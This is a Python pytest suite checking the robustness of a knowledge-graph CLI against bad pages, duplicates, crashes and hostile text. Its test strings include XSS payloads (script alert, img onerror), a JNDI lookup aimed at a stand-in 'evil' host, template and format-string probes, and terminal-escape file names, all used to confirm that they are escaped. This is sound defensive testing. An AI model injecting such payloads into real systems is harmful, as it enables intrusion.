"""Whole builds on bad pages, duplicates and hostile text; atomic, deterministic outputs; exit codes."""
from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import networkx as nx
import pytest
from rdflib import RDF, RDFS, Graph, Literal, URIRef
from rdflib.namespace import DCTERMS
from typer.testing import CliRunner

from kg.cli import EXIT_FAILED, EXIT_OK, EXIT_SKIPPED, app
from kg.files import write_atomic
from kg.vocab import DEFAULT_BASE, KG

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples" / "pages"
OUTPUTS = ("graph.ttl", "graph.html", "graph.graphml", "graph.json")
HEADER = "⚡ LLM Efficiency¶\n💬 ACL2026 · 3 paper notes\n"
IRI_FORBIDDEN = re.compile(r"[\x00-\x20<>\"{}|^`\\\x7f-\x9f]")
HOSTILE = [
    'Quote "Net" and \'single\'', "<script>alert(1)</script>", "Curly {braces} Net", r"Back\slash \n \u0041 Net",
    "${jndi:ldap://evil/x} Net", "{{ 7*7 }} Template Net", "🚀 RocketNet 🔥", "\u202eRTL override\u202c and \u200fmark",
    "Non‑ASCII ‐ hyphens – and — dashes", "Amp & <b>bold</b> ]]> CDATA", "Zero\u200bwidth Net", "%s %n %x Net",
]


def kg(*args):
    return CliRunner().invoke(app, [str(a) for a in args])


def page(title_summaries: list[tuple[str, str]], header: str = HEADER) -> str:
    return header + "".join(f"- {title}\n-\n{summary}\n" for title, summary in title_summaries)


def papers(ttl: Path) -> dict[str, set[str]]:
    """Title -> the kg:source values of its one kg:Paper (a second Paper with that title fails the test)."""
    graph = Graph().parse(ttl, format="turtle")
    found: dict[str, set[str]] = {}
    for paper in graph.subjects(RDF.type, KG.Paper):
        title = str(graph.value(paper, DCTERMS.title))
        assert title not in found, f"two kg:Paper for {title!r}"
        found[title] = {str(s) for s in graph.objects(paper, KG.source)}
    return found


@pytest.fixture(scope="module")
def bad_folder(tmp_path_factory):
    """One good page among every kind of bad one, built once through the CLI."""
    folder = tmp_path_factory.mktemp("bad-pages")
    (folder / "good.txt").write_text(page([("FooNet: Fast Decoding", "FooNet reaches a 2× speedup over vLLM.")]))
    (folder / "empty.txt").write_bytes(b"")
    (folder / "binary.txt").write_bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4)
    (folder / "legacy.txt").write_bytes(page([("BarNet: Legacy – Text", "BarNet gives 1.5× less memory.")])
                                        .replace("⚡ ", "").replace("💬 ", "").encode("cp1252"))
    (folder / "windows.txt").write_bytes(page([("BazNet: Windows", "BazNet is fast.")]).replace("\n", "\r\n").encode())
    (folder / "no-header.txt").write_text(page([("QuxNet: No Header", "QuxNet is fast.")], header=""))
    (folder / "no-summary.txt").write_text(page([("Lonely: No Summary", "")]))
    (folder / "unknown.txt").write_text("<html><body>not notes</body></html>\n")
    (folder / "huge.txt").write_text(page([("HugeNet: Big", "HugeNet reaches a 2× speedup. " * 40_000)]))
    (folder / "dangling.txt").symlink_to(folder / "gone.txt")
    out = folder / "out"
    return folder, out, kg("build", folder, "-o", out)


def test_robustness_bad_pages_are_named_and_good_pages_built(bad_folder):
    folder, out, result = bad_folder
    assert result.exit_code == EXIT_SKIPPED, result.output
    assert "Traceback" not in result.output
    errors = {line.split(": ")[1] for line in result.stderr.splitlines() if line.startswith("error: ")}
    assert errors == {str(folder / n) for n in ("empty.txt", "binary.txt", "unknown.txt", "dangling.txt")}
    warned = result.stderr
    assert f"{folder / 'legacy.txt'}:1: not valid UTF-8" in warned
    assert f"{folder / 'no-header.txt'}: no page header" in warned
    assert f"{folder / 'no-summary.txt'}:3: paper 'Lonely: No Summary' has no summary" in warned
    assert f"{folder / 'huge.txt'}:3: summary is 1," in warned
    assert "4 pages skipped" in warned
    titles = set(papers(out / "graph.ttl"))
    assert titles == {"FooNet: Fast Decoding", "BarNet: Legacy – Text", "BazNet: Windows", "QuxNet: No Header",
                      "Lonely: No Summary", "HugeNet: Big"}
    assert all((out / name).stat().st_size for name in OUTPUTS)


def test_robustness_warnings_alone_exit_0(tmp_path):
    (tmp_path / "no-header.txt").write_text(page([("QuxNet: No Header", "QuxNet is fast.")], header=""))
    result = kg("build", tmp_path / "no-header.txt", "-o", tmp_path / "out")
    assert result.exit_code == EXIT_OK, result.output
    assert "warning: " in result.stderr


def test_robustness_strict_stops_at_the_first_problem_and_writes_nothing(bad_folder, tmp_path):
    folder, _, _ = bad_folder
    result = kg("build", folder, "-o", tmp_path / "out", "--strict")
    assert result.exit_code == EXIT_FAILED
    assert "stopped: " in result.stderr and str(folder / "binary.txt") in result.stderr  # first in sorted order
    assert not any((tmp_path / "out" / name).exists() for name in OUTPUTS)


def test_robustness_nothing_readable_fails_and_keeps_the_old_graph(tmp_path):
    out = tmp_path / "out"
    assert kg("build", EXAMPLES, "-o", out).exit_code == EXIT_OK
    before = {name: (out / name).read_bytes() for name in OUTPUTS}
    (tmp_path / "empty.txt").write_text("")
    result = kg("build", tmp_path / "empty.txt", "-o", out)
    assert result.exit_code == EXIT_FAILED and "no page could be read" in result.stderr
    assert {name: (out / name).read_bytes() for name in OUTPUTS} == before
    result = kg("build", EXAMPLES, tmp_path / "no-such-folder", "-o", out)  # a mistyped INPUT: a usage error, no build
    assert result.exit_code == 2 and "no such file or folder" in result.stderr
    assert {name: (out / name).read_bytes() for name in OUTPUTS} == before


def test_robustness_unwritable_output_is_a_clear_failure(tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "graph.json").mkdir()  # a folder where graph.json, the last file renamed, should go
    result = kg("build", EXAMPLES / "serving.txt", "-o", tmp_path / "out", "--no-cache")
    assert result.exit_code == EXIT_FAILED and "cannot write the outputs" in result.stderr
    assert "Traceback" not in result.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["graph.json"]  # no other file written


def test_robustness_same_paper_twice_is_one_paper_with_every_source(tmp_path):
    first = tmp_path / "a.txt"
    first.write_text(page([("FooNet: Fast Decoding", "FooNet reaches a 2× speedup."),
                           ("BarNet: Other", "BarNet is fast."),
                           ("FooNet: Fast Decoding", "FooNet reaches a 2× speedup over vLLM on an A100.")]))
    second = tmp_path / "b.md"
    second.write_text("---\nvenue: ICML2026\n---\n**[FooNet — fast decoding](foo.md)**\n:   FooNet is fast.\n")
    result = kg("build", first, second, "-o", tmp_path / "out")
    assert result.exit_code == EXIT_OK, result.output
    found = papers(tmp_path / "out" / "graph.ttl")
    assert len(found) == 2
    assert found["FooNet: Fast Decoding"] == {f"{first}:3", f"{first}:9", f"{second}:4"}
    graph = Graph().parse(tmp_path / "out" / "graph.ttl")
    foo = next(graph.subjects(DCTERMS.title, Literal("FooNet: Fast Decoding")))
    assert "on an A100" in str(graph.value(foo, KG.summary))  # the fullest note wins


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    notes = [(f"{text} {index}", f"HostNet{index} uses {text} and reaches a 2× speedup over vLLM on an A100.")
             for index, text in enumerate(HOSTILE)]
    (folder / "hostile.txt").write_text(page(notes), encoding="utf-8")
    records = [{"title": f"JSON {text}", "summary": f"{text} \u0000\u001b[2J control", "venue": "<b>Venue</b> 2026",
                "area": "${area}"} for text in HOSTILE]
    (folder / "hostile.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    patterns = folder / "names.jsonl"  # a user-named entity whose canonical name is markup
    patterns.write_text(json.dumps({"label": "Method", "pattern": "HostNet0", "id": "<img src=x onerror=alert(1)>"}))
    out = folder / "out"
    result = kg("build", folder / "hostile.txt", folder / "hostile.jsonl", "-o", out, "--patterns", patterns)
    assert result.exit_code == EXIT_OK, result.output
    titles = {title for title, _ in notes} | {r["title"] for r in records}
    return out, titles


def test_robustness_hostile_text_gives_valid_iris_and_turtle(hostile_build):
    out, titles = hostile_build
    graph = Graph().parse(out / "graph.ttl", format="turtle")
    assert set(papers(out / "graph.ttl")) == titles
    for term in {t for triple in graph for t in triple if isinstance(t, URIRef)}:
        assert not IRI_FORBIDDEN.search(str(term)), term
    instances = {s for s in graph.subjects() if str(s).startswith(DEFAULT_BASE)}
    assert all(re.fullmatch(r"[A-Za-z0-9_.-]+", str(s)[len(DEFAULT_BASE):]) for s in instances)
    assert "<img src=x onerror=alert(1)>" in {str(o) for o in graph.objects(None, RDFS.label)}
    summaries = {str(o) for o in graph.objects(None, KG.summary)}
    assert not any(re.search("[\x00-\x08\x0b-\x1f]", s) for s in summaries)


def test_robustness_hostile_text_gives_valid_graphml_and_json(hostile_build):
    out, titles = hostile_build
    ElementTree.parse(out / "graph.graphml")
    graphml = nx.read_graphml(out / "graph.graphml")
    assert {d["title"] for _, d in graphml.nodes(data=True) if d.get("type") == "Paper"} == titles
    data = json.loads((out / "graph.json").read_text(encoding="utf-8"))
    assert {n["title"] for n in data["nodes"] if n.get("type") == "Paper"} == titles


def test_robustness_hostile_text_is_only_text_in_html(hostile_build):
    out, _ = hostile_build
    html = (out / "graph.html").read_text(encoding="utf-8")
    for markup in ("<script>alert(1)</script>", "<b>bold</b>", "<b>Venue</b>", "]]> CDATA", "<img src=x"):
        assert markup not in html
    assert "49 Template Net" not in html  # '{{ 7*7 }}' was not evaluated as a template


def test_robustness_write_atomic_keeps_the_old_file_on_failure(tmp_path, monkeypatch):
    target = tmp_path / "graph.ttl"
    write_atomic(target, "old\n")

    def full_disk(_):
        raise OSError(28, "No space left on device")

    for error in (full_disk, KeyboardInterrupt):
        monkeypatch.setattr(os, "fsync", error if error is full_disk else lambda _: (_ for _ in ()).throw(error()))
        with pytest.raises((OSError, KeyboardInterrupt)):
            write_atomic(target, "new and much longer\n" * 1000)
        assert target.read_text() == "old\n"
        assert [p.name for p in tmp_path.iterdir()] == ["graph.ttl"]
    monkeypatch.undo()
    write_atomic(target, b"new\n")
    assert target.read_bytes() == b"new\n" and [p.name for p in tmp_path.iterdir()] == ["graph.ttl"]


def test_robustness_crash_in_an_exporter_leaves_every_output_as_it_was(tmp_path, monkeypatch):
    out = tmp_path / "out"
    assert kg("build", EXAMPLES, "-o", out).exit_code == EXIT_OK
    before = {name: (out / name).read_bytes() for name in OUTPUTS}
    import export.graphml

    def crash(graph):
        yield "<?xml version='1.0'?>\n<graphml>"  # half a file, then the crash
        raise MemoryError("simulated crash while writing")

    for name in ("to_graphml", "graphml_chunks"):  # whichever the build writes with
        monkeypatch.setattr(export.graphml, name, crash, raising=False)
    result = kg("build", EXAMPLES / "serving.txt", "-o", out)
    assert result.exit_code != EXIT_OK
    assert {name: (out / name).read_bytes() for name in OUTPUTS} == before  # Turtle too, though written before the crash
    assert not [p.name for p in out.iterdir() if p.name.endswith(".tmp")]


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_robustness_a_focus_that_matches_nothing_changes_no_output(tmp_path, jobs):
    out = tmp_path / "out"
    assert kg("build", EXAMPLES, "-o", out).exit_code == EXIT_OK
    before = {name: (out / name).read_bytes() for name in OUTPUTS}
    result = kg("build", EXAMPLES / "serving.txt", "-o", out, "-j", jobs, "--html-focus", "no-such-name-anywhere")
    assert result.exit_code == EXIT_FAILED and "no node matches" in result.output
    assert {name: (out / name).read_bytes() for name in OUTPUTS} == before
    assert not [p.name for p in out.iterdir() if p.name.endswith(".tmp")]


def test_robustness_build_never_deletes_files_it_did_not_write(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    mine = {"notes.txt": b"mine", ".hidden": b"secret", "graph.ttl.bak": b"backup", "sub/deep.json": b"{}"}
    for name, data in mine.items():
        (out / name).parent.mkdir(exist_ok=True)
        (out / name).write_bytes(data)
    for _ in range(2):
        assert kg("build", EXAMPLES / "serving.txt", "-o", out).exit_code == EXIT_OK
    assert {name: (out / name).read_bytes() for name in mine} == mine
    written = {p.name for p in out.iterdir()} - {Path(n).parts[0] for n in mine}
    assert written - {".kg-cache.sqlite"} == set(OUTPUTS)


def test_robustness_same_input_gives_byte_identical_outputs(tmp_path):
    """Two separate processes with different hash seeds: no set or dict order leaks into the files."""
    outputs = []
    for seed in ("1", "2"):
        out = tmp_path / f"out{seed}"
        env = {**os.environ, "PYTHONHASHSEED": seed}
        subprocess.run([sys.executable, "-c", "from kg.cli import app; app()", "build", str(EXAMPLES), "-o", str(out), "-q", "--no-cache"],
                       check=True, env=env, cwd=tmp_path, capture_output=True)
        outputs.append({name: (out / name).read_bytes() for name in OUTPUTS})
    for name in OUTPUTS:
        assert outputs[0][name] == outputs[1][name], name


def test_robustness_pages_named_relative_or_absolute_give_the_same_outputs(tmp_path):
    """A page is reported relative to the working folder when inside it, however the command line named it."""
    outputs = []
    for name in ("examples/pages", "./examples/pages", str(EXAMPLES)):
        out = tmp_path / f"out{len(outputs)}"
        subprocess.run([sys.executable, "-c", "from kg.cli import app; app()", "build", name, "-o", str(out), "-q",
                        "--no-cache", "--no-html"], check=True, cwd=ROOT, capture_output=True)
        outputs.append((out / "graph.ttl").read_bytes())
    assert outputs[0] == outputs[1] == outputs[2]
    assert b'kg:source "examples/pages/serving.txt:4"' in outputs[0]


def test_robustness_exit_codes_are_documented():
    assert "Exit status: 0 built" in " ".join(kg("build", "--help").stdout.split())
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## When things go wrong", 1)[1].split("\n## ", 1)[0]
    for status in (EXIT_OK, EXIT_FAILED, EXIT_SKIPPED):
        assert f"| {status} |" in section


def test_robustness_a_rule_crash_costs_one_paper_its_entities_not_the_build(tmp_path, monkeypatch):
    import extract.extractor

    real = extract.extractor.extract_paper

    def flaky(paper):
        if "BOOM" in paper.note.title:
            raise IndexError("simulated bug in a rule")
        return real(paper)

    monkeypatch.setattr(extract.extractor, "extract_paper", flaky)
    pages = tmp_path / "p.txt"
    pages.write_text(page([("BOOM: Bad Paper", "BoomNet reaches a 2× speedup."),
                           ("FooNet: Fast Decoding", "FooNet reaches a 2× speedup over vLLM.")]))
    result = kg("build", pages, "-o", tmp_path / "out", "--no-cache")
    assert result.exit_code == EXIT_SKIPPED, result.output
    assert f"error: {pages}:3: the extraction rules failed on this paper (IndexError: simulated bug" in result.stderr
    graph = Graph().parse(tmp_path / "out" / "graph.ttl")
    assert set(papers(tmp_path / "out" / "graph.ttl")) == {"BOOM: Bad Paper", "FooNet: Fast Decoding"}
    foo = next(graph.subjects(DCTERMS.title, Literal("FooNet: Fast Decoding")))
    assert list(graph.objects(foo, KG.mentions))


def test_robustness_file_names_cannot_drive_the_terminal(tmp_path):
    evil = tmp_path / "evil\x1b[2J\u202e.txt"
    evil.write_bytes(b"")
    (tmp_path / "good.txt").write_text(page([("FooNet: Fast", "FooNet is fast.")]))
    result = kg("build", tmp_path, "-o", tmp_path / "out")
    assert result.exit_code == EXIT_SKIPPED
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr
    assert "evil\\u001b[2J\\u202e.txt: the page is empty" in result.stderr
